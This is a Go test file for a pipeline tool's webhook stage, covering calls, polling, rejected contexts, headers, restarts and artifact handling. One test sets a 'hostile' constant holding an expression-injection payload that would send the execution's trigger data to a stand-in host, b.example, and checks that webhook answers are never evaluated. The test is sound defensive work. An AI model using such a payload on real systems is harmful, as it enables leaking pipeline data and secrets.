package stages_test

import (
	"context"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/gennaker/gennaker/activities"
	"github.com/gennaker/gennaker/pipeline"
	"github.com/gennaker/gennaker/workflows/stages"
	"github.com/gennaker/gennaker/workflows/workflowstest"
)

type (
	webhookInput  = activities.CallWebhookInput
	webhookOutput = activities.CallWebhookOutput
)

// reply makes a call answer one thing after another, and the last for ever.
func reply(w *workflowstest.World, call activities.Call[webhookInput, webhookOutput], list ...any) {
	var mu sync.Mutex
	n := 0
	workflowstest.On(w, call, func(context.Context, webhookInput) (webhookOutput, error) {
		mu.Lock()
		defer mu.Unlock()
		a := list[min(n, len(list)-1)]
		n++
		switch a := a.(type) {
		case int:
			return workflowstest.Answered(a, nil), nil
		case activities.WebhookFailure:
			return webhookOutput{Failure: &a}, nil
		case error:
			return webhookOutput{}, a
		case webhookOutput:
			return a, nil
		}
		return workflowstest.Answered(200, a), nil
	})
}

func asked(w *workflowstest.World, call activities.Call[webhookInput, webhookOutput]) []webhookInput {
	var out []webhookInput
	for _, in := range w.Asked(call.Name) {
		out = append(out, in.(webhookInput))
	}
	return out
}

// hook returns the context's webhook of the first stage.
func hook(e *pipeline.Execution) pipeline.Map { return stage(e).Context.Map("webhook") }

func took(e *pipeline.Execution) time.Duration {
	return e.EndTime.Time().Sub(e.StartTime.Time())
}

// newWebhook runs one webhook stage.
func newWebhook(t *testing.T, w *workflowstest.World, context string) *workflowstest.Run {
	t.Helper()
	return newRun(t, w, `{"stages":[{"type":"webhook","refId":"1","name":"Call","url":"https://a.example/hook",`+context+`"x":1}]}`)
}

func TestWebhookExample(t *testing.T) {
	t.Parallel()
	w := workflowstest.NewWorld()
	reply(w, activities.CallWebhook, webhookOutput{StatusCode: 201, Headers: map[string]string{"Server": "ci"}, Body: activities.JSON{Value: map[string]any{
		"links": map[string]any{"self": "https://ci.example.com/api/runs/7"},
	}}})
	reply(w, activities.PollWebhook, map[string]any{"state": "QUEUED", "step": "waiting"}, map[string]any{"state": "running", "step": "half"}, map[string]any{"state": "passed", "step": "done"})
	e := runExample(t, w, "webhook.go", "Webhook").Done()
	require.Equal(t, pipeline.Succeeded, e.Status, workflowstest.Errors(e, "1"))
	require.Equal(t, []string{"createWebhook", "waitBeforeMonitorWebhook", "monitorWebhook"}, taskNames(stage(e)))
	require.Equal(t, pipeline.Map{
		"statusCode": "CREATED", "statusCodeValue": int64(201), "headers": map[string]any{"Server": "ci"},
		"body":           map[string]any{"links": map[string]any{"self": "https://ci.example.com/api/runs/7"}},
		"statusEndpoint": "https://ci.example.com/api/runs/7",
		"monitor": map[string]any{
			"statusCode": "OK", "statusCodeValue": int64(200), "body": map[string]any{"state": "passed", "step": "done"}, "progressMessage": "done",
		},
	}, hook(e))
	require.Equal(t, "https://ci.example.com/api/runs/7", stage(e).Context["statusEndpoint"])
	require.Empty(t, stage(e).Outputs, "a webhook leaves nothing to stages downstream")
	scope := activities.Scope{Application: "bakery", Execution: e.ID, Stage: stage(e).ID, StageName: "Run the tests", Task: "createWebhook", User: "ines"}
	headers := map[string][]string{"X-Team": {"shop"}}
	require.Equal(t, []webhookInput{{
		Scope: scope, Method: "POST", URL: "https://ci.example.com/api/runs", Headers: headers, Account: "ci",
		Payload: activities.JSON{Value: map[string]any{"suite": "smoke"}},
	}}, asked(w, activities.CallWebhook))
	scope.Task = "monitorWebhook"
	polls := asked(w, activities.PollWebhook)
	require.Len(t, polls, 3)
	require.Equal(t, webhookInput{Scope: scope, URL: "https://ci.example.com/api/runs/7", Headers: headers, Account: "ci"}, polls[0])
	require.Equal(t, 7*time.Second, took(e).Round(time.Second), "5 s before the polling, 1 s between polls")
}

func TestWebhookContextsThatAreRefused(t *testing.T) {
	t.Parallel()
	for context, want := range map[string]string{
		`"monitorOnly":true,`:                                      "Can't specify monitorOnly = true and waitForCompletion = false at the same time",
		`"failFastStatusCodes":503,`:                               "The failFastStatusCodes of stage 'Call' are not a list",
		`"retryStatusCodes":["x"],`:                                "hold x, which is no status code",
		`"webhookRetryStatusCodes":[{}],`:                          "which is no status code",
		`"retries":{"4xx":{"maxAttempts":1}},`:                     "have the key '4xx'",
		`"waitForCompletion":true,"monitorOnly":"true","url":" ",`: "Missing required parameter. Either webhook url or statusEndpoint are required",
	} {
		w := workflowstest.NewWorld()
		e := newWebhook(t, w, context).Done()
		require.Equal(t, pipeline.Terminal, e.Status, context)
		require.Contains(t, workflowstest.Errors(e, "1")[0], want)
		require.Empty(t, asked(w, activities.CallWebhook))
		require.Empty(t, asked(w, activities.PollWebhook))
	}
}

func TestWebhookHeaders(t *testing.T) {
	t.Parallel()
	w := workflowstest.NewWorld()
	newWebhook(t, w, `"customHeaders":{"A":"text","B":["one","two"],"C":5,"D":true,"E":null,"F":{}},"payload":"text","account":"ci",`).Done()
	in := asked(w, activities.CallWebhook)[0]
	require.Equal(t, map[string][]string{"A": {"text"}, "B": {"one", "two"}, "C": {"5"}, "D": {"true"}}, in.Headers)
	require.Equal(t, "text", in.Payload.Value)
	require.Equal(t, "ci", in.Account)
	require.Empty(t, in.Preconfigured)
}

// What was answered is data: whoever answers cannot have expressions evaluated,
// neither in the stage nor in a restart of it. The author's own may read it.
func TestWebhookAnswersAreNotEvaluated(t *testing.T) {
	t.Parallel()
	const hostile = "${#fromUrl('https://b.example/?' + #toJson(execution.trigger))} ${1 + 1}"
	const address = "https://b.example/${1 + 1}"
	answer := map[string]any{"at": address, "text": hostile, "id": int64(7), "${1 + 1}": []any{hostile}}
	w := workflowstest.NewWorld()
	reply(w, activities.CallWebhook, webhookOutput{StatusCode: 200, Headers: map[string]string{"X-A": hostile}, Body: activities.JSON{Value: answer}})
	reply(w, activities.PollWebhook, map[string]any{"status": "RUNNING", "text": hostile}, 404)
	e := newWebhook(t, w, monitoring+`"statusUrlResolution":"webhookResponse","statusUrlJsonPath":"$.at","waitBeforeMonitor":1,`+
		`"note":"${webhook.body.id + 1}","cancelEndpoint":"https://a.example/cancel/${webhook.body.id}",`).Done()
	require.Equal(t, pipeline.Terminal, e.Status)
	require.Equal(t, address, asked(w, activities.PollWebhook)[0].URL)
	require.Equal(t, answer, hook(e)["body"])
	require.Equal(t, map[string]any{"X-A": hostile}, hook(e)["headers"])
	require.Equal(t, int64(8), stage(e).Context["note"])
	require.Equal(t, "https://a.example/cancel/7", asked(w, activities.CallWebhook)[1].URL)
	require.Empty(t, w.Asked(activities.FetchExpressions.Name))
	require.Contains(t, workflowstest.Errors(e, "1")[0], address, "errors quote what was answered")

	e = workflowstest.NewRunOf(t, w, stages.All(), e.Clone()).Restart("1", "tess")
	require.Equal(t, pipeline.Terminal, e.Status)
	require.Empty(t, w.Asked(activities.FetchExpressions.Name))
	previous := pipeline.AsMap(stage(e).Context.Map("restartDetails")["previousException"])
	require.Contains(t, previous.Map("details").Strings("errors")[0], address)
}

func TestWebhookArtifactsAreNotEvaluated(t *testing.T) {
	t.Parallel()
	found := map[string]any{"name": "overrides", "version": "${1 + 1}"}
	w := workflowstest.NewWorld()
	reply(w, activities.CallWebhook, map[string]any{"artifacts": []any{found}})
	e := newWebhook(t, w, `"expectedArtifacts":[{"id":"e1","matchArtifact":{"name":"${'over' + 'rides'}"}}],`).Done()
	require.Equal(t, pipeline.Succeeded, e.Status, workflowstest.Errors(e, "1"))
	require.Equal(t, []any{found}, stage(e).Outputs["artifacts"])
}

// A restarted webhook begins anew: with a key of its own, and counting anew.
func TestWebhookRestart(t *testing.T) {
	t.Parallel()
	w := workflowstest.NewWorld()
	reply(w, activities.PollWebhook, 404, 404, 404, map[string]any{"status": "SUCCESS"})
	e := newWebhook(t, w, monitoring+`"retries":{"404":{"maxAttempts":1}},`).Done()
	require.Equal(t, pipeline.Terminal, e.Status)
	e = workflowstest.NewRunOf(t, w, stages.All(), e.Clone()).Restart("1", "tess")
	require.Equal(t, pipeline.Succeeded, e.Status, workflowstest.Errors(e, "1"))
	require.Equal(t, []any{int64(404)}, hook(e).Map("monitor")["pastStatusCodes"])
	calls := asked(w, activities.CallWebhook)
	require.Len(t, calls, 2)
	require.NotEqual(t, calls[0].Scope.Key(), calls[1].Scope.Key())
}
